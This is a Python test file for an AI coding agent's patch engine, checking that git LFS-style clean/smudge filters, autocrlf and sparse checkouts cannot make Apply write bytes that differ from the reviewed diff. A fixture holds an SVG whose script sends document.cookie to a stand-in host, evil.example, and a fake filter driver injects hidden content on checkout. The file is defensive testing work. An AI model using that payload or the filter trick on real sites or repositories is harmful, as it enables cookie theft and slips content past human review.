"""Issue 12, defects 1 and 7 through the real engine: the bytes Apply writes are the bytes the review shows.

The user's git setup lives only in a temporary global git config (``GIT_CONFIG_GLOBAL``), as ``git lfs
install`` writes it: a clean/smudge driver ``lfs`` (here a tiny Python script that stores content aside and
keeps a 3-line pointer in git, like git-lfs) and, for the other cases, ``core.autocrlf``. The model works
through the scripted provider; Apply runs in review mode (``job/apply``) and in ``auto`` mode.
"""

from __future__ import annotations

import secrets
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from spotpatch_agent.engine.service import EngineService
from spotpatch_agent.errors import SpotPatchError
from spotpatch_agent.protocol.models import JobCreateParams, JobIdParams, JobSnapshot, TrustedConfig
from spotpatch_agent.provider.scripted import ScriptedProviderServer
from tests.conftest import GIT_IDENTITY, git, make_repo
from tests.engine._gates_support import APP, DONE, KEY_ENV, TARGET, call, edit, py_check

pytestmark = pytest.mark.anyio

SCRIPT = b"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('//evil.example/'+document.cookie)</script></svg>\n"
LOGO = b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='4'/></svg>\n"
#: A git-lfs look-alike: ``clean`` stores the content under ``store/<sha256>`` and prints a pointer;
#: ``smudge`` prints the stored content back (anything but a pointer passes through).
LFS_DRIVER = '''
import hashlib, os, sys
store = os.path.join(os.path.dirname(os.path.abspath(__file__)), "store")
data = sys.stdin.buffer.read()
if sys.argv[1] == "clean":
    if data.startswith(b"version https://git-lfs"):
        sys.stdout.buffer.write(data)
        raise SystemExit(0)
    oid = hashlib.sha256(data).hexdigest()
    os.makedirs(store, exist_ok=True)
    with open(os.path.join(store, oid), "wb") as fh:
        fh.write(data)
    pointer = b"version https://git-lfs.github.com/spec/v1\\noid sha256:%s\\nsize %d\\n"
    sys.stdout.buffer.write(pointer % (oid.encode(), len(data)))
elif not data.startswith(b"version https://git-lfs"):
    sys.stdout.buffer.write(data)  # not a pointer: passed through, as git-lfs does
else:
    oid = data.split(b"oid sha256:")[1].split(b"\\n")[0].decode()
    with open(os.path.join(store, oid), "rb") as fh:
        sys.stdout.buffer.write(fh.read())
'''
AUTO = {"modes": {"auto": True}, "request": {"applyMode": "auto"}}
PASSING = [py_check("verify", "pass")]


@pytest.fixture(autouse=True)
def _key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(KEY_ENV, "sk-canary-" + secrets.token_hex(12))


def global_config(tmp: Path, monkeypatch: pytest.MonkeyPatch, text: str) -> Path:
    """A temporary global git config holding ``text``, for the tests' git and the engine's alike."""
    config = tmp / "home" / "gitconfig"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(text)
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    return config


def lfs_installed(tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``git lfs install``'s global keys, the driver being :data:`LFS_DRIVER`."""
    driver = tmp / "home" / "lfs_driver.py"
    driver.parent.mkdir(parents=True, exist_ok=True)
    driver.write_text(LFS_DRIVER)
    command = f"{shlex.quote(sys.executable)} {shlex.quote(str(driver))}"
    global_config(tmp, monkeypatch, f'[filter "lfs"]\n\tclean = {command} clean\n\tsmudge = {command} smudge\n'
                                    "\trequired = true\n")


def create(path: str, content: bytes) -> dict:
    lines = content.decode().splitlines()
    body = "".join(f"+{line}\n" for line in lines)
    patch = (f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
             f"@@ -0,0 +1,{len(lines)} @@\n{body}")
    return {"toolCalls": [call("create", "apply_patch", {"patch": patch})]}


def tree(root: Path) -> dict[str, bytes]:
    files = git(root, "ls-files", "-z", "--others", "--cached", "--exclude-standard").split("\0")
    return {f: (root / f).read_bytes() for f in files if f and (root / f).is_file()}


async def run_job(
    root: Path, turns: list, *, apply: bool = False, checks: list | None = None, modes: dict | None = None,
    request: dict | None = None,
) -> tuple[JobSnapshot, str, SpotPatchError | None]:
    """One job through the real engine to its end; with ``apply`` a ``job/apply`` of a job awaiting review.
    Returns the final snapshot, the diff the review showed ("" when none) and Apply's error."""
    with ScriptedProviderServer(list(turns)) as server:
        config = TrustedConfig.model_validate({"providers": [{
            "id": "p", "displayName": "P", "baseUrl": server.base_url, "apiKeyEnv": KEY_ENV,
            "models": [{"id": "m", "model": "scripted-model", "displayName": "M"}]}],
            "checks": checks or [], "modes": modes or {}})
        service = EngineService(send_event=lambda event: None)
        async with service.running():
            await service.configure(root, config)
            snap = await service.job_create(JobCreateParams.model_validate(
                {"annotation": TARGET, "modelProfileId": "m", **(request or {})}))
            await service.wait_job(snap.job_id)
            ids = JobIdParams(job_id=snap.job_id)
            snap = await service.job_get(ids)
            shown = (await service.job_diff(ids)).diff if snap.status != "failed" else ""
            error = None
            if apply and snap.status == "awaiting-review":
                try:
                    await service.job_apply(ids)
                except SpotPatchError as exc:
                    error = exc
                snap = await service.job_get(ids)
    return snap, shown, error


def lfs_repo(tmp: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    lfs_installed(tmp, monkeypatch)
    root = make_repo(tmp / "repo", {"src/App.tsx": APP, ".gitignore": "node_modules\n", "public/robots.txt": "ok\n",
                                    ".gitattributes": "*.svg filter=lfs -text\n", "public/old.svg": LOGO})
    assert b"version https://git-lfs" in subprocess.run(
        ["git", "cat-file", "-p", "HEAD:public/old.svg"], cwd=root, capture_output=True, check=True,
        env={**GIT_IDENTITY, "PATH": "/usr/bin:/bin", "GIT_CONFIG_GLOBAL": str(tmp / "home" / "gitconfig")}).stdout
    assert (root / "public/old.svg").read_bytes() == LOGO
    return root


def assert_lfs_rejected(snap: JobSnapshot, path: str) -> None:
    assert snap.status == "failed", (snap.status, snap.message)
    assert snap.error is not None and snap.error.code == "CHANGESET_REJECTED", snap.error
    assert f"'{path}'" in snap.error.message and "filter=lfs" in snap.error.message, snap.error.message


@pytest.mark.parametrize("mode", ["review", "auto"])
async def test_lfs_filter_new_file_never_writes_unreviewed_bytes(tmp_path: Path, monkeypatch, mode: str) -> None:
    """Defect 1: the diff of a new ``*.svg`` under ``filter=lfs`` shows a 3-line pointer, the checkout writes
    the stored script. The job fails in validation naming the path and the attribute; nothing is written."""
    root = lfs_repo(tmp_path, monkeypatch)
    before = tree(root)
    extra = AUTO if mode == "auto" else {}
    snap, _, _ = await run_job(root, [create("public/logo.svg", SCRIPT), DONE], apply=True, checks=PASSING, **extra)
    assert_lfs_rejected(snap, "public/logo.svg")
    assert tree(root) == before and not (root / "public/logo.svg").exists()


@pytest.mark.parametrize("mode", ["review", "auto"])
async def test_lfs_filter_edit_of_tracked_file_never_writes_unreviewed_bytes(tmp_path: Path, monkeypatch,
                                                                             mode: str) -> None:
    """Defect 1, edit form: the diff of a tracked file under ``filter=lfs`` shows only an oid change."""
    root = lfs_repo(tmp_path, monkeypatch)
    before = tree(root)
    turns = [edit("e", "<circle r='4'/>", "<script>alert(document.cookie)</script>", "public/old.svg"), DONE]
    extra = AUTO if mode == "auto" else {}
    snap, _, _ = await run_job(root, turns, apply=True, checks=PASSING, **extra)
    assert_lfs_rejected(snap, "public/old.svg")
    assert tree(root) == before


@pytest.mark.parametrize("mode", ["review", "auto"])
async def test_smudge_marker_from_global_config_is_caught(tmp_path: Path, monkeypatch, mode: str) -> None:
    """Defect 1 with a driver that passes content through on clean and injects a marker on smudge: the
    review shows the model's text, a checkout would add the marker. Rejected, nothing written."""
    driver = tmp_path / "home" / "marker.py"
    driver.parent.mkdir(parents=True)
    driver.write_text("import sys\nd = sys.stdin.buffer.read()\n"
                      "sys.stdout.buffer.write(d if sys.argv[1] == 'clean' else b'<!--INJECTED-->' + d)\n")
    command = f"{shlex.quote(sys.executable)} {shlex.quote(str(driver))}"
    global_config(tmp_path, monkeypatch, f'[filter "mark"]\n\tclean = {command} clean\n\tsmudge = {command} smudge\n')
    root = make_repo(tmp_path / "repo", {"src/App.tsx": APP, ".gitignore": "node_modules\n",
                                         ".gitattributes": "*.html filter=mark\n", "public/robots.txt": "ok\n"})
    before = tree(root)
    extra = AUTO if mode == "auto" else {}
    snap, _, _ = await run_job(root, [create("public/page.html", b"<p>hello</p>\n"), DONE], apply=True,
                               checks=PASSING, **extra)
    assert snap.status == "failed" and snap.error is not None and snap.error.code == "CHANGESET_REJECTED"
    assert "'public/page.html'" in snap.error.message and "filter=mark" in snap.error.message
    assert tree(root) == before


# ---------------------------------------------------------------- common setups keep working


@pytest.mark.parametrize("mode", ["review", "auto"])
async def test_lfs_installed_globally_but_unused_applies_exactly_the_diff(tmp_path: Path, monkeypatch,
                                                                         mode: str) -> None:
    """``git lfs install`` in the global config, no ``filter=lfs`` in the repository: jobs apply as before."""
    lfs_installed(tmp_path, monkeypatch)
    root = make_repo(tmp_path / "repo", {"src/App.tsx": APP, ".gitignore": "node_modules\n"})
    extra = AUTO if mode == "auto" else {}
    snap, shown, error = await run_job(root, [edit("w"), DONE], apply=True, checks=PASSING, **extra)
    assert error is None and snap.status == "applied", (snap.status, snap.message)
    assert "+export const App = () => <button className=\"a\">Start</button>;" in shown
    assert (root / "src/App.tsx").read_text() == APP.replace(">Go<", ">Start<")


async def test_lfs_used_for_other_paths_does_not_block_a_text_edit(tmp_path: Path, monkeypatch) -> None:
    root = lfs_repo(tmp_path, monkeypatch)
    snap, _, error = await run_job(root, [edit("w"), DONE], apply=True)
    assert error is None and snap.status == "applied", (snap.status, snap.message)
    assert (root / "src/App.tsx").read_text() == APP.replace(">Go<", ">Start<")
    assert (root / "public/old.svg").read_bytes() == LOGO


@pytest.mark.parametrize("mode", ["review", "auto"])
async def test_global_autocrlf_applies_the_diff_with_crlf_line_endings(tmp_path: Path, monkeypatch, mode: str) -> None:
    """``core.autocrlf=true`` (Git for Windows' default) in the global config, the user's files checked out with
    CRLF: the job applies, and the bytes written are the reviewed text with every LF as CRLF."""
    global_config(tmp_path, monkeypatch, "[core]\n\tautocrlf = true\n")
    root = make_repo(tmp_path / "repo", {"src/App.tsx": APP, ".gitignore": "node_modules\n"})
    (root / "src/App.tsx").unlink()
    git(root, "checkout", "--", "src/App.tsx")  # checkout form under the user's setting, as a clone has it
    assert (root / "src/App.tsx").read_bytes() == APP.encode().replace(b"\n", b"\r\n")
    extra = AUTO if mode == "auto" else {}
    snap, shown, error = await run_job(root, [edit("w"), DONE], apply=True, checks=PASSING, **extra)
    assert error is None and snap.status == "applied", (snap.status, snap.message)
    assert "\r" not in shown
    assert (root / "src/App.tsx").read_bytes() == APP.replace(">Go<", ">Start<").encode().replace(b"\n", b"\r\n")


# ---------------------------------------------------------------- defect 7


@pytest.mark.parametrize("rule", ["*.txt ident", "*.txt text eol=crlf"])
async def test_new_gitattributes_rule_plus_covered_file_fails_in_validation(tmp_path: Path, monkeypatch,
                                                                            rule: str) -> None:
    """Defect 7: a job adding a conversion rule and a file it covers used to reach review and then always got
    ``APPLY_CONFLICT`` ("create the job again"). Now validation says why and what the user can do."""
    global_config(tmp_path, monkeypatch, "")
    root = make_repo(tmp_path / "repo", {"src/App.tsx": APP, ".gitignore": "node_modules\n", "docs/a.md": "a\n"})
    before = tree(root)
    turns = [create(".gitattributes", (rule + "\n").encode()), create("docs/notes.txt", b"$Id$\nsecond line\n"),
             DONE]
    snap, _, _ = await run_job(root, turns, apply=True)
    assert snap.status == "failed" and snap.error is not None, (snap.status, snap.message)
    assert snap.error.code == "CHANGESET_REJECTED", snap.error
    message = snap.error.message
    assert "'docs/notes.txt'" in message and ".gitattributes" in message and "job of its own" in message, message
    assert "create the job again" not in message
    assert tree(root) == before


async def test_file_outside_the_sparse_checkout_cone_fails_in_validation(tmp_path: Path, monkeypatch) -> None:
    """Defect 7, sparse form: a new file outside a cone-mode sparse checkout failed the job with git's raw
    message; now the reason and the remedy are named."""
    global_config(tmp_path, monkeypatch, "")
    root = make_repo(tmp_path / "repo", {"src/App.tsx": APP, ".gitignore": "node_modules\n", "lib/x.ts": "x\n",
                                         "docs/a.md": "a\n"})
    git(root, "sparse-checkout", "set", "--cone", "src")
    git(root, "sparse-checkout", "add", "docs")
    assert not (root / "lib").exists()
    before = tree(root)
    turns = [create("docs/b.md", b"in cone\n"), create("lib/y.ts", b"export const y = 1;\n"), DONE]
    snap, _, _ = await run_job(root, turns)
    assert snap.status == "failed" and snap.error is not None, (snap.status, snap.message)
    message = snap.error.message
    assert snap.error.code == "CHANGESET_REJECTED" and "'lib/y.ts'" in message, message
    assert "sparse checkout" in message and "git sparse-checkout add lib" in message, message
    assert "hint:" not in message and "The following paths" not in message, message
    assert tree(root) == before


async def test_autocrlf_with_safecrlf_applies_a_new_lf_file_as_crlf(tmp_path: Path, monkeypatch) -> None:
    """``core.safecrlf=true`` made ``git add`` refuse a new LF file under ``core.autocrlf=true`` (a raw git
    message, the job lost); the engine pins it off, and validation's own rule applies: CRLF of the shown text."""
    global_config(tmp_path, monkeypatch, "")
    root = make_repo(tmp_path / "repo", {"src/App.tsx": "export const App = 1;\r\n", ".gitignore": "node_modules\n"})
    global_config(tmp_path, monkeypatch, "[core]\n\tautocrlf = true\n\tsafecrlf = true\n")
    snap, shown, error = await run_job(root, [create("src/util.ts", b"export const u = 1;\n"), DONE], apply=True)
    assert error is None and snap.status == "applied", (snap.status, snap.message)
    assert "+export const u = 1;\n" in shown
    assert (root / "src/util.ts").read_bytes() == b"export const u = 1;\r\n"


async def test_user_diff_settings_do_not_change_the_review_text(tmp_path: Path, monkeypatch) -> None:
    """``diff.noprefix``, ``diff.mnemonicPrefix``, ``diff.suppressBlankEmpty`` in the global config: the review
    still shows git's canonical diff (``a/``/``b/`` headers, a blank context line as a single space)."""
    global_config(tmp_path, monkeypatch, "[diff]\n\tnoprefix = true\n\tmnemonicPrefix = true\n"
                                         "\tsuppressBlankEmpty = true\n")
    app = APP + "\nexport const x = 1;\n"
    root = make_repo(tmp_path / "repo", {"src/App.tsx": app, ".gitignore": "node_modules\n"})
    snap, shown, error = await run_job(root, [edit("w"), DONE], apply=True)
    assert error is None and snap.status == "applied", (snap.status, snap.message)
    assert "\n--- a/src/App.tsx\n+++ b/src/App.tsx\n" in shown
    assert "\n \n export const x = 1;\n" in shown, shown
    assert (root / "src/App.tsx").read_text() == app.replace(">Go<", ">Start<")


async def test_autocrlf_set_after_the_clone_refuses_apply_and_writes_nothing(tmp_path: Path, monkeypatch) -> None:
    """The documented limitation (docs/security.md §7), measured: LF files on disk while git would check them
    out with CRLF. Validation passes (the CRLF rule), Apply refuses with ``APPLY_CONFLICT`` naming the file."""
    global_config(tmp_path, monkeypatch, "")
    root = make_repo(tmp_path / "repo", {"src/App.tsx": APP, ".gitignore": "node_modules\n"})
    global_config(tmp_path, monkeypatch, "[core]\n\tautocrlf = true\n")
    before = tree(root)
    snap, _, error = await run_job(root, [edit("w"), DONE], apply=True)
    assert error is not None and error.code == "APPLY_CONFLICT" and "src/App.tsx" in error.message, error
    assert snap.status == "awaiting-review" and tree(root) == before
